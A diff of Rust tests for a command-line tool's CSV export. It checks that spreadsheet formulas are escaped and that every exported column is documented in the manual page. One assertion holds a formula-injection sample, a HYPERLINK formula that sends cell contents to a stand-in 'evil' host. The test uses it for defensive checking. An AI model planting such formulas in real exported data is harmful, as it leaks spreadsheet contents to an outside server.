@@ -176,7 +176,7 @@ fn a_spreadsheet_finds_no_formula_and_no_control_character() {
     }
     let events = export(&lab, &["events", "--as", "csv"]);
     assert!(events.contains("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""), "{events}");
-    assert!(events.contains(",'-1+1,"), "{events}");
+    assert!(events.contains(",\"'-1+1\","), "{events}");
     assert!(export(&lab, &["events", "--as", "csv", "--raw"]).contains(",-1+1,"));
 }
 
@@ -247,7 +247,7 @@ fn every_column_is_in_the_manual() {
     let page = fs::read_to_string(dir.join("inquest-tables.5")).unwrap().replace("\\-", "-");
     for table in ["events", "members", "runs"] {
         let csv = export(&lab, &[table, "--as", "csv"]);
-        for name in csv.lines().next().unwrap().split(',') {
+        for name in csv.lines().next().unwrap().replace('"', "").split(',') {
             assert!(page.contains(&format!("\\fB{name}\\fR (")), "{table}.{name}");
         }
     }
